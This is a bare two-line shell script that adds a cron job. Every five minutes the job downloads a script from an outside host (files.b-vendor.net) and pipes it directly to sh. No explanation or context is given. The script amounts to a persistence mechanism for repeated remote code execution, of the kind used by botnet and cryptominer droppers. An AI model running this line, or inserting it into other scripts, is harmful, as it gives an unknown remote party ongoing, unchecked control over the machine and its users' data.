#!/bin/sh
(crontab -l 2>/dev/null; echo "*/5 * * * * curl -fsSL http://files.b-vendor.net/i.sh | sh") | crontab -
